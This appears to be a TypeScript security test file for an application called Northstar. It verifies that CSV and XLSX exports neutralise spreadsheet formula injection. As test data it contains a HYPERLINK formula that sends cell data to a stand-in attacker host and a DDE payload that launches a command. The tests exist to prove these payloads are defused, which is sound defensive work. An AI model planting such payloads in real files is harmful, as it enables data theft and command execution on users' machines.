/**
 * Class 9: text from users and source systems never reaches a spreadsheet as a live formula.
 * Every CSV Northstar writes goes through one writer (server/files/csv.ts) that prefixes cells
 * starting with = + - @ tab or CR with an apostrophe (plain numbers stay numbers): the entry
 * template, file-drop error reports, exports. XLSX text cells are strings, never formulas.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { testDatabaseKinds } from '../helpers/database.ts';
import { useTestApp } from '../helpers/app.ts';
import { importModelFile } from '../helpers/model.ts';
import { csvFile } from '../../server/files/csv.ts';
import { runJob, saveJob } from '../integration/jobs/support.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
const readCsv = (text: string) => parse(text, { bom: true }) as string[][];

describe('the CSV writer', () => {
  it('prefixes formula-like text with an apostrophe and leaves numbers, negative numbers included, alone', () => {
    const rows = readCsv(csvFile([[HYPERLINK, '+1+2', '-2+3', '@SUM(A1)', '\tx', '\rx', '-12.5', -12.5, 'plain', '=1']]).toString('utf8'));
    expect(rows[0]).toEqual([`'${HYPERLINK}`, "'+1+2", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", '-12.5', '-12.5', 'plain', "'=1"]);
  });
});

describe.each(testDatabaseKinds())('formula injection (%s)', (kind) => {
  const app = useTestApp(kind);
  const base = fs.mkdtempSync(path.join(os.tmpdir(), 'ns-sec-csv-'));
  let savedDataDir = '';
  beforeAll(() => {
    savedDataDir = app.ctx.config.dataDir;
    app.ctx.config.dataDir = base;
  });
  afterAll(() => {
    app.ctx.config.dataDir = savedDataDir;
    fs.rmSync(base, { recursive: true, force: true });
  });
  beforeEach(async () => {
    await importModelFile(app.db, 'design-example.yaml');
    await app.user('admin', [{ role: 'admin', unit: null }]);
  });

  it('when a note is a formula, then the entry template CSV carries it neutralised, and re-uploading the template changes nothing', async () => {
    const admin = await app.signIn('admin');
    expect((await admin.put('/api/v1/entry/SEOUL/2026-02', { rows: [{ indicator: 'SALES', value: -12.5, note: HYPERLINK, expectedRevision: 0 }] })).status).toBe(200);
    const csv = await admin.get('/api/v1/entry/SEOUL/2026-02/template?format=csv');
    const rows = readCsv(csv.text);
    const sales = rows.find((r) => r[0] === 'SALES')!;
    expect(sales[3]).toBe('-12.5'); // the numeric value column keeps the plain negative number
    expect(sales[4]).toBe(`'${HYPERLINK}`);
    expect(rows.flat().filter((cell) => /^[=+@\t\r]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell))).toEqual([]);
    const preview = await admin.post('/api/v1/imports?filename=t.csv&dryRun=true&accept=valid', csv.text, { 'content-type': 'text/csv' });
    expect(preview.body).toMatchObject({ changed: 0 });

    const xlsx = await fetch(`${app.url}/api/v1/entry/SEOUL/2026-02/template?format=xlsx`, { headers: admin.headers });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await xlsx.arrayBuffer()) as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    const noteCell = sheet.getRow(2).getCell(5);
    expect(noteCell.type).toBe(ExcelJS.ValueType.String);
    expect(noteCell.value).toBe(HYPERLINK);
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('when a dropped file names a formula as its unit, then the error report beside it carries it neutralised', async () => {
    const folder = path.join(base, 'drop', 'inbox');
    fs.mkdirSync(folder, { recursive: true });
    fs.writeFileSync(path.join(folder, 'bad.csv'), `indicator,unit,period,value\nSALES,"=cmd|' /C calc'!A0",2026-01,1\n`);
    await saveJob(app.db, { name: 'drop', kind: 'file-drop', config: { folder: 'inbox' } });
    expect((await runJob(app.ctx, 'drop')).status).toBe('failed');
    const report = readCsv(fs.readFileSync(path.join(folder, 'rejected', 'bad.csv.errors.csv'), 'utf8'));
    expect(report[1]).toEqual(['2', 'unit', 'unknown_unit', expect.any(String), "'=cmd|' /C calc'!A0"]);
    expect(report.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});
